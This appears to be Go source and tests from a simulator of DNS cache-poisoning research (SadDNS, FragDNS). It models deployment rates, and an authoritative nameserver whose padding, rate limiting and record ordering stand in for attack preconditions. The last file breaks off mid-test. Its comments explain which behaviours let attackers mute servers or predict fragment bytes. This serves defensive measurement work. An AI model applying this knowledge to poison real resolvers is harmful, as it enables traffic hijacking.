func (c Categorical) Sample(r *Rand) int {
	total := 0
	for _, w := range c.Weights {
		if w > 0 {
			total += w
		}
	}
	if total <= 0 {
		return 0
	}
	pick := int(r.Uint64() % uint64(total))
	for i, w := range c.Weights {
		if w <= 0 {
			continue
		}
		if pick < w {
			return i
		}
		pick -= w
	}
	return 0
}

// IntSpan is a bounded integer distribution: uniform over [Min, Max]
// inclusive. The zero value always samples 0.
type IntSpan struct {
	Min, Max int
}

// Sample draws one integer from the span.
func (s IntSpan) Sample(r *Rand) int {
	if s.Max <= s.Min {
		return s.Min
	}
	n := uint64(s.Max - s.Min + 1)
	return s.Min + int(r.Uint64()%n)
}

// WeightedSpans is a categorical distribution over ephemeral
// port-span sizes: Spans[i] is drawn with weight Weights.Weights[i].
// It models the §4.3 forwarder population, where span size follows
// the device class (embedded CPE boxes expose tiny ranges, bigger
// boxes expose thousands of ports).
type WeightedSpans struct {
	Spans   []uint16
	Weights Categorical
}

// Sample draws one span; an empty distribution returns 0.
func (w WeightedSpans) Sample(r *Rand) uint16 {
	if len(w.Spans) == 0 {
		return 0
	}
	i := w.Weights.Sample(r)
	if i >= len(w.Spans) {
		i = len(w.Spans) - 1
	}
	return w.Spans[i]
}

// Dataset is one named deployment population: every rate and
// distribution a scenario samples when it instantiates a concrete
// world from the population. The zero value is the canonical dataset
// (no sampling; every toggle keeps its configured boolean).
type Dataset struct {
	// Key is the stable identifier used in filters, cell identities
	// and report columns.
	Key string
	// Name is the display form.
	Name string
	// Sampled marks a dataset that actually samples; false is the
	// canonical passthrough, which must leave a scenario bit-for-bit
	// as configured.
	Sampled bool

	// SAV is the egress-filtering (BCP 38) deployment rate of the
	// ordinary (non-attacker) ASes.
	SAV Bernoulli
	// AttackerSAV is the rate at which the AS the attacker operates
	// from enforces egress filtering — the draw that decides whether
	// this world's attacker can spoof at all. Attackers shop for lax
	// networks, so realistic values sit well below SAV.
	AttackerSAV Bernoulli

	// Use0x20 is the fraction of resolvers that actually enforce a
	// configured 0x20 defense; ValidateDNSSEC the fraction that
	// actually validate when configured to. Both compose with the
	// defense lattice as probabilistic application: sampling can
	// withhold a configured defense, never invent one.
	Use0x20        Bernoulli
	ValidateDNSSEC Bernoulli

	// PortSpan is the per-hop forwarder ephemeral-span distribution;
	// SpanJitter adds a small uniform offset so spans are not exactly
	// the class sizes (the long tail of device-specific ranges).
	// Bailiwick is the per-hop rate of name-match response filtering.
	PortSpan   WeightedSpans
	SpanJitter IntSpan
	Bailiwick  Bernoulli
}

// Canonical reports whether the dataset is the no-sampling passthrough.
func (d Dataset) Canonical() bool { return !d.Sampled }

// CanonicalKey is the registry key of the no-sampling dataset — the
// default every sweep runs under unless a deployment filter opts into
// sampled populations.
const CanonicalKey = "canonical"

// Datasets returns the deployment-population registry in sweep order.
// The canonical passthrough is always first; the sampled datasets
// bracket the measured Internet ("measured", survey-like rates) and an
// optimistic hardened future ("hardened").
func Datasets() []Dataset {
	return []Dataset{
		{
			Key:  CanonicalKey,
			Name: "canonical configuration (no sampling)",
		},
		{
			Key: "measured", Name: "survey-calibrated deployment rates",
			Sampled: true,
			// Spoofer-project-style SAV coverage; attackers pick lax ASes.
			SAV: 0.73, AttackerSAV: 0.25,
			Use0x20: 0.20, ValidateDNSSEC: 0.30,
			PortSpan: WeightedSpans{
				Spans:   []uint16{64, 256, 2048},
				Weights: Categorical{Weights: []int{5, 3, 2}},
			},
			SpanJitter: IntSpan{Min: 0, Max: 15},
			Bailiwick:  0.35,
		},
		{
			Key: "hardened", Name: "optimistic hardened deployment",
			Sampled: true,
			SAV:     0.95, AttackerSAV: 0.60,
			Use0x20: 0.85, ValidateDNSSEC: 0.75,
			PortSpan: WeightedSpans{
				Spans:   []uint16{256, 2048, 16384},
				Weights: Categorical{Weights: []int{2, 4, 4}},
			},
			SpanJitter: IntSpan{Min: 0, Max: 15},
			Bailiwick:  0.80,
		},
	}
}

// ByKey returns the named dataset.
func ByKey(key string) (Dataset, bool) {
	for _, d := range Datasets() {
		if d.Key == key {
			return d, true
		}
	}
	return Dataset{}, false
}
