package deploy

import "testing"

// TestRandDeterministic pins that equal seeds replay equal sequences
// and different seeds diverge — the property every scenario Reset
// relies on to re-sample exactly what a fresh build would.
func TestRandDeterministic(t *testing.T) {
	a, b := NewRand(42), NewRand(42)
	for i := 0; i < 100; i++ {
		if av, bv := a.Uint64(), b.Uint64(); av != bv {
			t.Fatalf("draw %d: equal seeds diverged: %d vs %d", i, av, bv)
		}
	}
	c, d := NewRand(1), NewRand(2)
	same := 0
	for i := 0; i < 100; i++ {
		if c.Uint64() == d.Uint64() {
			same++
		}
	}
	if same > 2 {
		t.Fatalf("different seeds produced %d/100 equal draws", same)
	}
}

func TestBernoulliRate(t *testing.T) {
	for _, rate := range []Bernoulli{0, 0.25, 0.73, 1} {
		r := NewRand(7)
		hits := 0
		const n = 20000
		for i := 0; i < n; i++ {
			if rate.Sample(r) {
				hits++
			}
		}
		got := float64(hits) / n
		if diff := got - float64(rate); diff > 0.02 || diff < -0.02 {
			t.Errorf("Bernoulli(%v): empirical rate %.3f", rate, got)
		}
	}
}

func TestCategorical(t *testing.T) {
	c := Categorical{Weights: []int{1, 0, 3}}
	r := NewRand(3)
	counts := make([]int, 3)
	const n = 40000
	for i := 0; i < n; i++ {
		counts[c.Sample(r)]++
	}
	if counts[1] != 0 {
		t.Fatalf("zero-weight option drawn %d times", counts[1])
	}
	if got := float64(counts[2]) / n; got < 0.72 || got > 0.78 {
		t.Fatalf("weight-3 option rate %.3f, want ~0.75", got)
	}
	// Degenerate distributions must not panic and must return 0.
	if (Categorical{}).Sample(r) != 0 || (Categorical{Weights: []int{0, 0}}).Sample(r) != 0 {
		t.Fatal("degenerate categorical did not return 0")
	}
}

func TestIntSpan(t *testing.T) {
	s := IntSpan{Min: 3, Max: 10}
	r := NewRand(5)
	seen := map[int]bool{}
	for i := 0; i < 5000; i++ {
		v := s.Sample(r)
		if v < 3 || v > 10 {
			t.Fatalf("sample %d out of [3,10]", v)
		}
		seen[v] = true
	}
	if len(seen) != 8 {
		t.Fatalf("span covered %d/8 values", len(seen))
	}
	if (IntSpan{}).Sample(r) != 0 {
		t.Fatal("zero IntSpan must sample 0")
	}
}

func TestWeightedSpans(t *testing.T) {
	w := WeightedSpans{Spans: []uint16{64, 256}, Weights: Categorical{Weights: []int{1, 1}}}
	r := NewRand(9)
	for i := 0; i < 1000; i++ {
		if v := w.Sample(r); v != 64 && v != 256 {
			t.Fatalf("sampled span %d not in the distribution", v)
		}
	}
	if (WeightedSpans{}).Sample(r) != 0 {
		t.Fatal("empty WeightedSpans must sample 0")
	}
}

// TestDatasetsRegistry pins the registry shape the campaign axis is
// built on: canonical first and alone in being unsampled, unique keys,
// and every sampled span fitting the forwarder port window.
func TestDatasetsRegistry(t *testing.T) {
	ds := Datasets()
	if len(ds) < 2 {
		t.Fatalf("registry has %d datasets", len(ds))
	}
	if ds[0].Key != CanonicalKey || !ds[0].Canonical() {
		t.Fatalf("first dataset %q (canonical=%v), want the canonical passthrough",
			ds[0].Key, ds[0].Canonical())
	}
	seen := map[string]bool{}
	for _, d := range ds {
		if seen[d.Key] {
			t.Fatalf("duplicate dataset key %q", d.Key)
		}
		seen[d.Key] = true
		if d.Key != CanonicalKey && d.Canonical() {
			t.Fatalf("dataset %q is unsampled but not the canonical one", d.Key)
		}
		for _, span := range d.PortSpan.Spans {
			// Forwarder hops bind 40000+span-1+jitter; stay under 65535.
			if int(span)+d.SpanJitter.Max > 25000 {
				t.Fatalf("dataset %q span %d+%d overflows the forwarder port window",
					d.Key, span, d.SpanJitter.Max)
			}
		}
	}
	if _, ok := ByKey("measured"); !ok {
		t.Fatal("ByKey(measured) missing")
	}
	if _, ok := ByKey("nope"); ok {
		t.Fatal("ByKey(nope) found a dataset")
	}
}
