package dnssrv_test

import (
	"testing"
	"time"

	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

func querySync(t *testing.T, s *scenario.S, from *netsim.Host, name string, typ dnswire.Type) *dnswire.Message {
	t.Helper()
	var got *dnswire.Message
	resolver.StubQuery(from, scenario.NSIP, name, typ, 5*time.Second, func(m *dnswire.Message, err error) {
		if err != nil {
			t.Fatalf("query %s %v: %v", name, typ, err)
		}
		got = m
	})
	s.Run()
	if got == nil {
		t.Fatalf("no response for %s %v", name, typ)
	}
	return got
}

func TestAuthoritativeAnswer(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 1})
	m := querySync(t, s, s.Attacker, "www.vict.im.", dnswire.TypeA)
	if !m.Authoritative || m.RCode != dnswire.RCodeNoError {
		t.Fatalf("header: aa=%v rcode=%v", m.Authoritative, m.RCode)
	}
	if len(m.Answers) != 1 || m.Answers[0].Data.(*dnswire.AData).Addr != scenario.VictimWWW {
		t.Fatalf("answers: %v", m.Answers)
	}
}

func TestNXDomainCarriesSOA(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 1})
	m := querySync(t, s, s.Attacker, "missing.vict.im.", dnswire.TypeA)
	if m.RCode != dnswire.RCodeNXDomain {
		t.Fatalf("rcode = %v", m.RCode)
	}
	if len(m.Authority) != 1 || m.Authority[0].Type != dnswire.TypeSOA {
		t.Fatalf("authority: %v", m.Authority)
	}
}

func TestNoDataForExistingName(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 1})
	m := querySync(t, s, s.Attacker, "www.vict.im.", dnswire.TypeMX)
	if m.RCode != dnswire.RCodeNoError || len(m.Answers) != 0 {
		t.Fatalf("NODATA wrong: rcode=%v answers=%v", m.RCode, m.Answers)
	}
}

func TestRefusedOutsideZones(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 1})
	m := querySync(t, s, s.Attacker, "other.example.", dnswire.TypeA)
	if m.RCode != dnswire.RCodeRefused {
		t.Fatalf("rcode = %v, want REFUSED", m.RCode)
	}
}

func TestANYReturnsAllTypesAddressLast(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 1})
	// ANY responses get large; advertise a big buffer.
	var got *dnswire.Message
	q := dnswire.NewQuery(9, "vict.im.", dnswire.TypeANY)
	q.SetEDNS(4096, false)
	wire, _ := q.Pack()
	port := s.Attacker.BindUDP(0, func(dg netsim.Datagram) {
		m, err := dnswire.Unpack(dg.Payload)
		if err == nil && m.ID == 9 {
			got = m
		}
	})
	s.Attacker.SendUDP(port, scenario.NSIP, 53, wire)
	s.Run()
	if got == nil {
		t.Fatal("no ANY response")
	}
	types := map[dnswire.Type]bool{}
	for _, rr := range got.Answers {
		types[rr.Type] = true
	}
	for _, want := range []dnswire.Type{dnswire.TypeSOA, dnswire.TypeNS, dnswire.TypeA, dnswire.TypeMX, dnswire.TypeTXT, dnswire.TypeNAPTR} {
		if !types[want] {
			t.Fatalf("ANY missing %v (got %v)", want, got.Answers)
		}
	}
	if got.Answers[len(got.Answers)-1].Type != dnswire.TypeA {
		t.Fatalf("A record not last in ANY response: last=%v", got.Answers[len(got.Answers)-1].Type)
	}
}

func TestRFC8482MinimalANY(t *testing.T) {
	cfg := dnssrv.DefaultConfig()
	cfg.ServeANY = false
	s := scenario.New(scenario.Config{Seed: 1, ServerCfg: cfg})
	m := querySync(t, s, s.Attacker, "vict.im.", dnswire.TypeANY)
	if len(m.Answers) != 1 || m.Answers[0].Type != dnswire.TypeTXT {
		t.Fatalf("minimal ANY answer: %v", m.Answers)
	}
}

func TestRateLimitMutesServer(t *testing.T) {
	cfg := dnssrv.DefaultConfig()
	cfg.RateLimit = true
	cfg.RateLimitQPS = 10
	s := scenario.New(scenario.Config{Seed: 1, ServerCfg: cfg})
	got := 0
	for i := 0; i < 40; i++ {
		resolver.StubQuery(s.Attacker, scenario.NSIP, "www.vict.im.", dnswire.TypeA, 3*time.Second,
			func(m *dnswire.Message, err error) {
				if err == nil {
					got++
				}
			})
	}
	s.Run()
	if got != 10 {
		t.Fatalf("responses = %d, want 10 (RRL)", got)
	}
	if s.NS.RateDropped != 30 {
		t.Fatalf("RateDropped = %d, want 30", s.NS.RateDropped)
	}
	// Next second the quota resets.
	got2 := 0
	resolver.StubQuery(s.Attacker, scenario.NSIP, "www.vict.im.", dnswire.TypeA, 3*time.Second,
		func(m *dnswire.Message, err error) {
			if err == nil {
				got2++
			}
		})
	s.Run()
	if got2 != 1 {
		t.Fatal("RRL did not reset after window")
	}
}

func TestPaddingInflatesResponses(t *testing.T) {
	cfg := dnssrv.DefaultConfig()
	cfg.PadAnswersTo = 1300
	s := scenario.New(scenario.Config{Seed: 1, ServerCfg: cfg})
	q := dnswire.NewQuery(5, "www.vict.im.", dnswire.TypeA)
	q.SetEDNS(4096, false)
	resp := s.NS.BuildResponse(q)
	wire, err := resp.Pack()
	if err != nil {
		t.Fatal(err)
	}
	if len(wire) < 1300 {
		t.Fatalf("padded response only %d bytes", len(wire))
	}
	// Genuine A record must be the LAST answer (fragment-tail layout).
	last := resp.Answers[len(resp.Answers)-1]
	if last.Type != dnswire.TypeA {
		t.Fatalf("last answer is %v, want A", last.Type)
	}
}

func TestTruncationAtEDNSLimit(t *testing.T) {
	cfg := dnssrv.DefaultConfig()
	cfg.PadAnswersTo = 1300
	s := scenario.New(scenario.Config{Seed: 1, ServerCfg: cfg})
	m := querySync(t, s, s.Attacker, "www.vict.im.", dnswire.TypeA) // stub sends no EDNS: limit 512
	if !m.Truncated || len(m.Answers) != 0 {
		t.Fatalf("expected TC response, got tc=%v answers=%d", m.Truncated, len(m.Answers))
	}
}

func TestSignedZoneAttachesValidRRSIGs(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 1, SignVictimZone: true})
	q := dnswire.NewQuery(5, "www.vict.im.", dnswire.TypeA)
	resp := s.NS.BuildResponse(q)
	var sig *dnswire.RRSIGData
	for _, rr := range resp.Answers {
		if rr.Type == dnswire.TypeRRSIG {
			sig = rr.Data.(*dnswire.RRSIGData)
		}
	}
	if sig == nil || !sig.Valid || sig.Covered != dnswire.TypeA {
		t.Fatalf("RRSIG missing/wrong: %+v", sig)
	}
}

func TestRandomizeOrderShufflesAnswers(t *testing.T) {
	cfg := dnssrv.DefaultConfig()
	cfg.RandomizeOrder = true
	cfg.PadAnswersTo = 900
	s := scenario.New(scenario.Config{Seed: 3, ServerCfg: cfg})
	q := dnswire.NewQuery(5, "www.vict.im.", dnswire.TypeA)
	q.SetEDNS(4096, false)
	positions := map[int]bool{}
	for i := 0; i < 16; i++ {
		resp := s.NS.BuildResponse(q)
		for pos, rr := range resp.Answers {
			if rr.Type == dnswire.TypeA {
				positions[pos] = true
			}
		}
	}
	if len(positions) < 2 {
		t.Fatal("answer order not randomised across responses")
	}
}

func TestTCPNeverTruncates(t *testing.T) {
	cfg := dnssrv.DefaultConfig()
	cfg.PadAnswersTo = 1300
	s := scenario.New(scenario.Config{Seed: 1, ServerCfg: cfg})
	q := dnswire.NewQuery(77, "www.vict.im.", dnswire.TypeA)
	wire, _ := q.Pack()
	var resp *dnswire.Message
	s.Attacker.CallTCP(scenario.NSIP, 53, wire, func(b []byte) {
		if b == nil {
			t.Error("no TCP response")
			return
		}
		m, err := dnswire.Unpack(b)
		if err != nil {
			t.Error(err)
			return
		}
		resp = m
	})
	s.Run()
	if resp == nil || resp.Truncated || len(resp.Answers) == 0 {
		t.Fatalf("TCP response wrong: %+v", resp)
	}
}

func TestZoneLookupSemantics(t *testing.T) {
	z := scenario.BuildVictimZone(false)
	if rrs, ok := z.Lookup("WWW.VICT.IM.", dnswire.TypeA); !ok || len(rrs) != 1 {
		t.Fatal("case-insensitive lookup failed")
	}
	if _, ok := z.Lookup("missing.vict.im.", dnswire.TypeA); ok {
		t.Fatal("missing name reported as existing")
	}
	// Empty non-terminal: _tcp.vict.im has children but no records.
	if _, ok := z.Lookup("_tcp.vict.im.", dnswire.TypeA); !ok {
		t.Fatal("empty non-terminal reported NXDOMAIN")
	}
	rrs, _ := z.Lookup("vict.im.", dnswire.TypeANY)
	if len(rrs) < 5 {
		t.Fatalf("ANY returned %d rrs", len(rrs))
	}
}
