package dnssrv

import (
	"fmt"
	"net/netip"
	"strings"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
)

// Config controls server behaviours the measurements distinguish.
type Config struct {
	// RateLimit enables response-rate limiting: at most RateLimitQPS
	// responses per one-second window, further responses silently
	// dropped. This is the behaviour the paper's §5.2.2 burst test
	// (4000 queries in one second) detects, and the lever SadDNS uses
	// to mute a nameserver.
	RateLimit    bool
	RateLimitQPS int
	// PadAnswersTo inflates responses with filler TXT answer records
	// until the DNS payload reaches at least this many bytes (the
	// paper's custom test nameserver "emits fragmented responses
	// padded to a certain size").
	PadAnswersTo int
	// RandomizeOrder shuffles answer records per response — the
	// countermeasure that breaks FragDNS checksum prediction (§6.1).
	RandomizeOrder bool
	// ServeANY: answer ANY queries with all RRsets (Unbound refuses).
	ServeANY bool
}

// DefaultConfig returns a typical authoritative server.
func DefaultConfig() Config {
	return Config{RateLimitQPS: 1000, ServeANY: true}
}

// Server is an authoritative nameserver bound to a netsim host on UDP
// port 53.
type Server struct {
	Host  *netsim.Host
	Cfg   Config
	zones map[string]*Zone

	window    time.Duration
	sentInWin int

	// scratch is the wire-format buffer reused across UDP responses
	// (and pad's trial packs). Safe because SendUDP serializes the
	// payload into its own pooled buffer before returning; handleTCP
	// must NOT use it — its return value is retained by the caller.
	scratch []byte

	// Counters.
	Queries, Responses, RateDropped, Truncated uint64

	// Observe, when set, sees every received query with its transport
	// ("udp"/"tcp") and source — the measurement probes' server-side
	// vantage (e.g. reading the EDNS size resolvers advertise, or
	// detecting the re-query after a fragmented CNAME response).
	Observe func(q *dnswire.Message, src netip.Addr, transport string)
}

// New creates a server on host and binds UDP and TCP port 53, plus
// every session-transport service port (always-TCP, DoT, DoH, DoQ) so
// resolvers may pick any upstream transport. TCP fallback responses
// are never truncated or rate limited (RRL only protects the
// amplification-prone UDP path); session responses are never
// truncated but DO spend the RRL budget — the limit models a
// response-rate cap, so a muted server is silent on every transport.
func New(host *netsim.Host, cfg Config) *Server {
	s := &Server{Host: host, Cfg: cfg, zones: make(map[string]*Zone)}
	host.BindUDP(53, s.handle)
	host.BindTCP(53, s.handleTCP)
	for _, t := range resolver.StreamTransports() {
		host.BindSession(t.Port(), s.sessionHandler(t.Key()))
	}
	return s
}

// Reset rewinds the server to its post-New state for the next trial of
// a reused world: the RRL window bookkeeping and counters are zeroed
// and the observation hook dropped. Zones (immutable under serving),
// config and bound ports survive; SadDNS-style config overrides are
// restored by the host-level snapshot, not here.
func (s *Server) Reset() {
	s.window = 0
	s.sentInWin = 0
	s.Queries, s.Responses, s.RateDropped, s.Truncated = 0, 0, 0, 0
	s.Observe = nil
}

// sessionHandler serves one session service port. Streams carry any
// size, so there is no truncation path; the scratch buffer is safe
// because the session respond contract copies before returning.
func (s *Server) sessionHandler(transport string) netsim.SessionHandler {
	return func(src netip.Addr, req []byte, respond func([]byte)) {
		query, err := dnswire.Unpack(req)
		if err != nil || query.Response || len(query.Questions) == 0 {
			return
		}
		s.Queries++
		if s.Observe != nil {
			s.Observe(query, src, transport)
		}
		if s.Cfg.RateLimit && !s.allowResponse() {
			s.RateDropped++
			return // silence: the SadDNS mute lever is transport-blind
		}
		resp := s.BuildResponse(query)
		wire, err := resp.AppendPack(s.scratch[:0])
		if err != nil {
			return
		}
		s.scratch = wire
		s.Responses++
		respond(wire)
	}
}

func (s *Server) handleTCP(src netip.Addr, req []byte) []byte {
	query, err := dnswire.Unpack(req)
	if err != nil || query.Response || len(query.Questions) == 0 {
		return nil
	}
	s.Queries++
	if s.Observe != nil {
		s.Observe(query, src, "tcp")
	}
	resp := s.BuildResponse(query)
	wire, err := resp.Pack()
	if err != nil {
		return nil
	}
	s.Responses++
	return wire
}

// AddZone attaches a zone to the server.
func (s *Server) AddZone(z *Zone) *Server {
	s.zones[z.Origin] = z
	return s
}

// Zone returns the zone whose origin is the longest suffix of name.
func (s *Server) Zone(name string) *Zone {
	name = dnswire.CanonicalName(name)
	var best *Zone
	for origin, z := range s.zones {
		if dnswire.InBailiwick(name, origin) {
			if best == nil || len(origin) > len(best.Origin) {
				best = z
			}
		}
	}
	return best
}

func (s *Server) handle(dg netsim.Datagram) {
	query, err := dnswire.Unpack(dg.Payload)
	if err != nil || query.Response || len(query.Questions) == 0 {
		return
	}
	s.Queries++
	if s.Observe != nil {
		s.Observe(query, dg.Src, "udp")
	}
	if s.Cfg.RateLimit && !s.allowResponse() {
		s.RateDropped++
		return
	}
	resp := s.BuildResponse(query)
	wire, err := resp.AppendPack(s.scratch[:0])
	if err != nil {
		return
	}
	s.scratch = wire
	// EDNS truncation: if the client advertised a buffer smaller than
	// the response, set TC and cut to the advertised size (or 512).
	limit := 512
	if sz, _, ok := query.EDNS(); ok {
		limit = int(sz)
	}
	if len(wire) > limit {
		s.Truncated++
		tr := &dnswire.Message{
			ID: resp.ID, Response: true, Authoritative: resp.Authoritative,
			Truncated: true, RecursionDesired: resp.RecursionDesired,
			RCode: resp.RCode, Questions: resp.Questions,
		}
		wire, err = tr.AppendPack(s.scratch[:0])
		if err != nil {
			return
		}
		s.scratch = wire
	}
	s.Responses++
	s.Host.SendUDP(53, dg.Src, dg.SrcPort, wire)
}

func (s *Server) allowResponse() bool {
	now := s.Host.Network().Clock.Now()
	win := now / time.Second
	if win != s.window {
		s.window = win
		s.sentInWin = 0
	}
	s.sentInWin++
	return s.sentInWin <= s.Cfg.RateLimitQPS
}

// BuildResponse synthesises the authoritative answer for query. It is
// exported so the FragDNS attacker can predict the exact bytes the
// server will emit (the attacker queries public zone data itself).
func (s *Server) BuildResponse(query *dnswire.Message) *dnswire.Message {
	q := query.Question()
	resp := &dnswire.Message{
		ID: query.ID, Response: true, Authoritative: true,
		RecursionDesired: query.RecursionDesired,
		Questions:        query.Questions, // echo, preserving 0x20 case
	}
	if sz, do, ok := query.EDNS(); ok {
		resp.SetEDNS(sz, do)
	}
	zone := s.Zone(q.Name)
	if zone == nil {
		resp.RCode = dnswire.RCodeRefused
		return resp
	}
	if q.Type == dnswire.TypeANY && !s.Cfg.ServeANY {
		// Unbound-style minimal ANY refusal (RFC 8482).
		resp.Answers = append(resp.Answers, dnswire.NewTXT(q.Name, 3600, "RFC8482"))
		return resp
	}
	answers, exists := zone.Lookup(q.Name, q.Type)
	if len(answers) == 0 {
		if !exists {
			resp.RCode = dnswire.RCodeNXDomain
		}
		if soa := zone.SOA(); soa != nil {
			resp.Authority = append(resp.Authority, soa)
		}
		return resp
	}
	resp.Answers = append(resp.Answers, answers...)
	if s.Cfg.PadAnswersTo > 0 {
		s.pad(resp, q.Name)
	}
	if s.Cfg.RandomizeOrder {
		rng := s.Host.Rand()
		rng.Shuffle(len(resp.Answers), func(i, j int) {
			resp.Answers[i], resp.Answers[j] = resp.Answers[j], resp.Answers[i]
		})
	} else {
		// Deterministic layout: filler/text first, address records
		// last (see Zone.Lookup). Stable-sort answers so A records
		// land at the tail of the packet for non-ANY lookups too.
		stableByOrder(resp.Answers)
	}
	if zone.Signed {
		s.sign(resp, zone)
	}
	return resp
}

// pad inserts filler TXT answer records owned by a sibling label until
// the packed size reaches the configured floor. Filler is placed at
// the FRONT of the answer section so genuine records sit in the final
// fragment (the layout FragDNS wants to overwrite).
func (s *Server) pad(resp *dnswire.Message, qname string) {
	fillerName := "filler." + strings.TrimPrefix(dnswire.CanonicalName(qname), "filler.")
	chunk := strings.Repeat("x", 194)
	for i := 0; i < 64; i++ {
		// Only the packed length matters here; packing into the shared
		// scratch avoids one full-response allocation per probe.
		wire, err := resp.AppendPack(s.scratch[:0])
		if err != nil || len(wire) >= s.Cfg.PadAnswersTo {
			return
		}
		s.scratch = wire
		// Each filler carries a distinct serial so that answer-order
		// randomisation genuinely changes the response bytes (and so
		// defeats FragDNS checksum prediction, §6.1).
		filler := dnswire.NewTXT(fillerName, 300, fmt.Sprintf("%s%06d", chunk, i))
		resp.Answers = append([]*dnswire.RR{filler}, resp.Answers...)
	}
}

func stableByOrder(rrs []*dnswire.RR) {
	// insertion sort by anyOrder (stable, tiny slices)
	for i := 1; i < len(rrs); i++ {
		for j := i; j > 0 && anyOrder(rrs[j].Type) < anyOrder(rrs[j-1].Type); j-- {
			rrs[j], rrs[j-1] = rrs[j-1], rrs[j]
		}
	}
}

// sign appends RRSIG markers covering each answer RRset type.
func (s *Server) sign(resp *dnswire.Message, zone *Zone) {
	seen := map[dnswire.Type]bool{}
	var sigs []*dnswire.RR
	for _, rr := range resp.Answers {
		if rr.Type == dnswire.TypeRRSIG || seen[rr.Type] {
			continue
		}
		seen[rr.Type] = true
		sigs = append(sigs, &dnswire.RR{
			Name: rr.Name, Type: dnswire.TypeRRSIG, Class: dnswire.ClassIN, TTL: rr.TTL,
			Data: &dnswire.RRSIGData{Covered: rr.Type, Signer: zone.Origin, Valid: true},
		})
	}
	resp.Answers = append(resp.Answers, sigs...)
}
