// Package dnssrv implements the authoritative nameserver substrate:
// zone storage, response synthesis (including ANY responses, CNAME
// handling, padding for the fragmentation experiments, and optional
// answer-order randomisation), response-rate limiting (RRL — the
// muting lever SadDNS abuses), and EDNS-size/truncation handling.
package dnssrv

import (
	"sort"
	"strings"

	"crosslayer/internal/dnswire"
)

// rrKey indexes one RRset.
type rrKey struct {
	name string
	typ  dnswire.Type
}

// Zone holds the records of one DNS zone.
type Zone struct {
	// Origin is the zone apex, e.g. "vict.im.".
	Origin string
	// Signed marks the zone as DNSSEC-signed: responses carry RRSIG
	// markers and validating resolvers will check them.
	Signed bool
	rrsets map[rrKey][]*dnswire.RR
	names  map[string]bool
}

// NewZone creates an empty zone rooted at origin.
func NewZone(origin string) *Zone {
	return &Zone{
		Origin: dnswire.CanonicalName(origin),
		rrsets: make(map[rrKey][]*dnswire.RR),
		names:  make(map[string]bool),
	}
}

// Add inserts records; names must be inside the zone.
func (z *Zone) Add(rrs ...*dnswire.RR) *Zone {
	for _, rr := range rrs {
		name := dnswire.CanonicalName(rr.Name)
		if !dnswire.InBailiwick(name, z.Origin) {
			panic("dnssrv: record " + name + " outside zone " + z.Origin)
		}
		k := rrKey{name, rr.Type}
		z.rrsets[k] = append(z.rrsets[k], rr)
		z.names[name] = true
	}
	return z
}

// Lookup returns the RRset for (name, type). For TypeANY all RRsets at
// the name are returned, TXT-type records first and address records
// last — matching the common server behaviour the FragDNS attack
// relies on ("most servers do not randomise the records in DNS
// responses", §5.3.2: the target A record sits at a predictable
// offset, here the tail).
func (z *Zone) Lookup(name string, typ dnswire.Type) (answers []*dnswire.RR, exists bool) {
	name = dnswire.CanonicalName(name)
	exists = z.names[name]
	if !exists {
		// Wildcard-free zones: also report existence for empty
		// non-terminals (a name that has records below it).
		for n := range z.names {
			if strings.HasSuffix(n, "."+name) || n == name {
				exists = true
				break
			}
		}
	}
	if typ == dnswire.TypeANY {
		var keys []rrKey
		for k := range z.rrsets {
			if k.name == name {
				keys = append(keys, k)
			}
		}
		sort.Slice(keys, func(i, j int) bool { return anyOrder(keys[i].typ) < anyOrder(keys[j].typ) })
		for _, k := range keys {
			answers = append(answers, z.rrsets[k]...)
		}
		return answers, exists
	}
	if rrs, ok := z.rrsets[rrKey{name, typ}]; ok {
		return rrs, true
	}
	// CNAME at the name answers any type.
	if cn, ok := z.rrsets[rrKey{name, dnswire.TypeCNAME}]; ok && typ != dnswire.TypeCNAME {
		return cn, true
	}
	return nil, exists
}

// anyOrder places bulky text-ish records first and address records
// last in ANY responses.
func anyOrder(t dnswire.Type) int {
	switch t {
	case dnswire.TypeTXT:
		return 0
	case dnswire.TypeSOA:
		return 1
	case dnswire.TypeNS:
		return 2
	case dnswire.TypeMX, dnswire.TypeSRV, dnswire.TypeNAPTR:
		return 3
	case dnswire.TypeA, dnswire.TypeAAAA:
		return 9
	default:
		return 5
	}
}

// SOA returns the zone's SOA record if present.
func (z *Zone) SOA() *dnswire.RR {
	if rrs, ok := z.rrsets[rrKey{z.Origin, dnswire.TypeSOA}]; ok && len(rrs) > 0 {
		return rrs[0]
	}
	return nil
}

// Names returns the number of distinct owner names.
func (z *Zone) Names() int { return len(z.names) }
