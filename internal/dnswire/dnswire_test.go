package dnswire

import (
	"math/rand"
	"net/netip"
	"strings"
	"testing"
)

func mustPackUnpack(t *testing.T, m *Message) *Message {
	t.Helper()
	wire, err := m.Pack()
	if err != nil {
		t.Fatalf("pack: %v", err)
	}
	out, err := Unpack(wire)
	if err != nil {
		t.Fatalf("unpack: %v", err)
	}
	return out
}

func TestHeaderFlagsRoundTrip(t *testing.T) {
	m := &Message{
		ID: 0x5ab3, Response: true, Authoritative: true, Truncated: true,
		RecursionDesired: true, RecursionAvailable: true, AuthenticData: true,
		RCode:     RCodeNXDomain,
		Questions: []Question{{Name: "www.Vict.IM.", Type: TypeA, Class: ClassIN}},
	}
	out := mustPackUnpack(t, m)
	if out.ID != m.ID || !out.Response || !out.Authoritative || !out.Truncated ||
		!out.RecursionDesired || !out.RecursionAvailable || !out.AuthenticData ||
		out.RCode != RCodeNXDomain {
		t.Fatalf("flags mismatch: %+v", out)
	}
	if out.Questions[0].Name != "www.Vict.IM." {
		t.Fatalf("question case not preserved: %q", out.Questions[0].Name)
	}
}

func TestAllRRTypesRoundTrip(t *testing.T) {
	v4 := netip.MustParseAddr("6.6.6.6")
	v6 := netip.MustParseAddr("2001:db8::1")
	rrs := []*RR{
		NewA("vict.im", 300, v4),
		{Name: "vict.im.", Type: TypeAAAA, Class: ClassIN, TTL: 60, Data: &AAAAData{Addr: v6}},
		NewNS("vict.im", 3600, "ns1.vict.im"),
		NewCNAME("www.vict.im", 120, "vict.im"),
